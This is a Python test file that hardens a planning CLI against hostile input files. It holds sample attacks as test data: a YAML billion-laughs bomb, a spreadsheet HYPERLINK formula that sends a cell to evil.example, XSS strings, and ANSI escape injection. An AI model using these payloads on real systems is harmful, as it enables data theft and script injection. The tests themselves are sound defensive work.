"""What a careless or hostile file can do to the real command (issue 15): one test per attack.

Each test writes the attack as a real file, runs ``python -m jazari_planner`` on it, and
checks the exit code, the message, that no traceback is printed and that nothing on disk
was lost. The YAML attacks run under a 1 GiB address-space limit: a bomb that expands must
fail the test, not the machine.
"""

from __future__ import annotations

import csv
import ctypes
import hashlib
import os
import resource
import shutil
import subprocess
import sys
import textwrap
from pathlib import Path

from cli_support import REPO, SCENARIOS, Run, leftovers, run_cli, write
from factories import billion_laughs
from markdown_it import MarkdownIt

from jazari_planner.export.output_folder import MANIFEST

DATA = REPO / "data"


def snapshot(folder: Path) -> dict[str, str]:
    """Every file under ``folder`` (hidden ones and .git included) with its SHA-256."""
    return {p.relative_to(folder).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*")) if p.is_file() and not p.is_symlink()}


def clean(done: Run, code: int) -> None:
    """The run ended with ``code`` and printed messages, never a traceback."""
    assert done.code == code, done.err
    assert "Traceback" not in done.err and "Traceback" not in done.out


def one_gibibyte() -> None:
    resource.setrlimit(resource.RLIMIT_AS, (1 << 30, 1 << 30))


def unprivileged() -> None:
    """Drop root's power to read any file (CAP_DAC_OVERRIDE, CAP_DAC_READ_SEARCH)."""
    libc = ctypes.CDLL(None, use_errno=True)
    for capability in (1, 2):
        libc.prctl(24, capability, 0, 0, 0)  # PR_CAPBSET_DROP: gone once python is exec'd


# --------------------------------------------------------------------------- 1. --force


def test_force_never_deletes_inputs_a_clone_or_what_a_previous_output_links_to(
    tmp_path: Path
) -> None:
    clone = tmp_path / "clone"
    shutil.copytree(DATA, clone / "data")
    (clone / ".git").mkdir()
    (clone / ".git" / "HEAD").write_text("ref: refs/heads/main\n", encoding="utf-8")
    before = snapshot(clone)
    ok = write(tmp_path, "name: Ok\n", "ok.yaml")
    env = {"JAZARI_PLANNER_DATA": str(clone / "data")}
    for out in (clone / "data", clone):
        done = run_cli("solve", ok, "--out", out, "--force", env=env)
        clean(done, 2)
        assert "never replaced, even with --force" in done.err
        assert str(clone / "data") in done.err and "embedded:" not in done.err
    assert snapshot(clone) == before

    out = tmp_path / "out"
    clean(run_cli("solve", ok, "--out", out, env=env), 0)
    precious = tmp_path / "precious"
    precious.mkdir()
    (precious / "notes.txt").write_text("keep\n", encoding="utf-8")
    (out / "linked").symlink_to(precious)
    (out / "empty").mkdir()
    written = snapshot(out)
    done = run_cli("solve", ok, "--out", out, env=env)
    clean(done, 2)
    assert "linked (symbolic link)" in done.err and "empty/ (folder)" in done.err
    assert "--force" in done.err
    assert snapshot(out) == written and (out / "linked").is_symlink() and (out / "empty").is_dir()
    assert (precious / "notes.txt").read_text(encoding="utf-8") == "keep\n"


# --------------------------------------------------------------------------- 2. YAML


def test_yaml_bombs_deep_nesting_devices_and_fifos_are_refused_in_bounded_memory(
    tmp_path: Path
) -> None:
    attacks = {
        "bomb.yaml": (billion_laughs(), "bomb.yaml:3: YAML anchors and aliases are not read"),
        "recursive.yaml": ("name: R\ndescription: &a [*a]\n",
                           "recursive.yaml:2: YAML anchors and aliases are not read"),
        "deep.yaml": ("name: D\ndescription: " + "[" * 900 + "]" * 900 + "\n",
                      "deep.yaml:2: nested more than 20 levels deep"),
    }
    files = [write(tmp_path, text, name) for name, (text, _) in attacks.items()]
    fifo = tmp_path / "fifo.yaml"
    os.mkfifo(fifo)
    before = snapshot(tmp_path)
    done = run_cli("validate", *files, fifo, "/dev/zero", "/dev/urandom", timeout=120,
                   preexec_fn=one_gibibyte)
    clean(done, 2)
    for _, message in attacks.values():
        assert message in done.err, done.err
    for device in (fifo, "/dev/zero", "/dev/urandom"):
        assert f"error: {device}: is not a regular file" in done.err
    assert done.err.count("  fix: ") == 6
    assert snapshot(tmp_path) == before


# --------------------------------------------------------------------------- 3. CSV


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_csv_cells_a_spreadsheet_would_run_are_neutralized(tmp_path: Path) -> None:
    themes = (DATA / "themes.yaml").read_text(encoding="utf-8").replace(
        "label: Energy transition and green hydrogen", f"label: '{FORMULA}'")
    (tmp_path / "themes.yaml").write_text(themes, encoding="utf-8")
    scenario = write(tmp_path, "name: '@SUM(1+1)'\ndata: {themes: themes.yaml}\n"
                     "lock_in: [{region: Dakhla-Oued Ed-Dahab, theme: energy}]\n")
    clean(run_cli("solve", scenario, "--out", tmp_path / "out"), 0)
    rows = read_csv(tmp_path / "out" / "assignments.csv")
    assert f"'{FORMULA}" in {row["theme_label"] for row in rows}
    assert all(float(row["strength"]) >= 0 for row in rows)

    other = write(tmp_path, "name: '-2+3'\nbalance: 0.9\n", "other.yaml")
    clean(run_cli("compare", scenario, other, "--out", tmp_path / "compared"), 0)
    table = read_csv(tmp_path / "compared" / "comparison.csv")
    assert [row["scenario"] for row in table] == ["'@SUM(1+1)", "'-2+3"]
    assert float(table[0]["objective"]) > 0
    with (tmp_path / "compared" / "assignments.csv").open(encoding="utf-8", newline="") as f:
        header = next(csv.reader(f))
    assert header[2:] == ["'@SUM(1+1)", "'-2+3"]
    for folder in ("out", "compared"):
        for path in (tmp_path / folder).glob("*.csv"):
            for row in csv.reader(path.open(encoding="utf-8", newline="")):
                risky = [c for c in row if c[:1] in ("=", "+", "@", "\t", "\r")
                         or (c.startswith("-") and not is_number(c))]
                assert risky == [], (path.name, risky)


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


# --------------------------------------------------------------------------- 4. numbers


NUMBERS = {
    "budget-inf.yaml": ("budget: .inf", "budget-inf.yaml:2: budget: is inf"),
    "cost-inf.yaml": ("themes: {energy: {cost: .inf}}", "themes.energy.cost: is inf"),
    "cost-huge.yaml": ("themes: {energy: {cost: 1e15}}", "themes.energy.cost: is 1e+15"),
    "weight-inf.yaml": ("weights: {economic: .inf}", "weights.economic: is inf"),
    "weight-nan.yaml": ("weights: {economic: .nan}", "weights.economic: is nan"),
    "equity-inf.yaml": ("equity: .inf", "equity: is inf"),
    "overflow.yaml": ("budget: 1e309", "budget: is inf, not a finite number"),
    "merge.yaml": ("solver:\n  <<: {name: cbc}", "merge.yaml:3: YAML merge keys (<<)"),
    "binary.yaml": ("description: !!binary aGk=", "the YAML tag 'tag:yaml.org,2002:binary'"),
}


def test_numbers_that_would_break_the_solver_are_refused_and_exponents_are_read(
    tmp_path: Path
) -> None:
    files = [write(tmp_path, f"name: T\n{text}\n", name) for name, (text, _) in NUMBERS.items()]
    good = write(tmp_path, "name: Tiny\nmin_strength: 1e-9\nbudget: 1.0e4\n", "good.yaml")
    before = snapshot(tmp_path)
    done = run_cli("validate", *files, good)
    clean(done, 2)
    for _, message in NUMBERS.values():
        assert message in done.err, done.err
    assert f"ok  {good}  (Tiny)" in done.out
    assert snapshot(tmp_path) == before

    rows = read_csv(DATA / "indicators.csv")
    gdp = [row for row in rows if row["indicator"] == "gdp_share"]
    gdp[0]["value"], gdp[1]["value"] = "1.7e308", "-1.7e308"
    with (tmp_path / "huge.csv").open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    scenario = write(tmp_path, "name: Huge\ndata: {indicators: huge.csv}\n", "huge.yaml")
    done = run_cli("solve", scenario, "--out", tmp_path / "out")
    clean(done, 2)
    assert "gdp_share" in done.err and "larger unit" in done.err
    assert not (tmp_path / "out").exists()


def test_a_scenario_file_that_cannot_be_read_says_how_to_fix_it(tmp_path: Path) -> None:
    locked = write(tmp_path, "name: Locked\n", "locked.yaml")
    locked.chmod(0)
    done = run_cli("validate", locked, preexec_fn=unprivileged if os.geteuid() == 0 else None)
    clean(done, 2)
    assert f"{locked}: permission denied" in done.err and "chmod u+r" in done.err


# --------------------------------------------------------------------------- 5. atomic


KILLED_AFTER_SWAP = textwrap.dedent("""
    import os, sys
    from jazari_planner import cli
    from jazari_planner.export import output_folder

    exchange = output_folder._exchange
    def exchange_then_die(first, second):
        exchange(first, second)
        os._exit(9)
    output_folder._exchange = exchange_then_die
    cli.main(sys.argv[1:])
""")


def test_a_killed_solve_leaves_a_complete_output_and_the_next_run_cleans_up(
    tmp_path: Path
) -> None:
    out = tmp_path / "out"
    clean(run_cli("solve", SCENARIOS / "excellence.yaml", "--out", out), 0)
    env = {**os.environ, "PYTHONPATH": str(REPO)}
    killed = subprocess.run(
        [sys.executable, "-c", KILLED_AFTER_SWAP, "solve", str(SCENARIOS / "tight-budget.yaml"),
         "--out", str(out), "-q"], env=env, capture_output=True, text=True, timeout=300,
        check=False)
    assert killed.returncode == 9, killed.stderr
    assert "Tight budget" in (out / "summary.json").read_text(encoding="utf-8")
    assert (out / MANIFEST).is_file() and len(leftovers(tmp_path)) > 1
    clean(run_cli("solve", SCENARIOS / "excellence.yaml", "--out", out), 0)
    assert leftovers(tmp_path) == ["out"]


# --------------------------------------------------------------------------- 6. text


def test_names_reach_markdown_terminals_and_slides_as_plain_text(tmp_path: Path) -> None:
    names = ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
             "[x](javascript:alert(1))"]
    files = [write(tmp_path, f"name: '{name}'\nbalance: 0.{i}\n", f"s{i}.yaml")
             for i, name in enumerate(names)]
    clean(run_cli("compare", *files, "--out", tmp_path / "compared"), 0)
    markdown = (tmp_path / "compared" / "comparison.md").read_text(encoding="utf-8")
    html = MarkdownIt("commonmark").enable("table").render(markdown)
    assert "<script" not in html and "<img" not in html and "href=" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html

    ansi = write(tmp_path, 'name: "\\e[2J\\e[31mRed\\e[0m"\n', "ansi.yaml")
    done = run_cli("validate", ansi)
    clean(done, 0)
    assert "\x1b" not in done.out + done.err and "\\x1b[31mRed" in done.out

    too_long = write(tmp_path, f"name: {'N' * 240}\n", "long.yaml")
    done = run_cli("solve", too_long, "--out", tmp_path / "deck", "--pptx")
    clean(done, 2)
    assert "long.yaml:1: name: is 240 characters long; at most 200" in done.err
    longest = write(tmp_path, f"name: {'N' * 200}\n", "longest.yaml")
    clean(run_cli("solve", longest, "--out", tmp_path / "deck", "--pptx"), 0)
    assert (tmp_path / "deck" / "deck.pptx").stat().st_size > 10_000

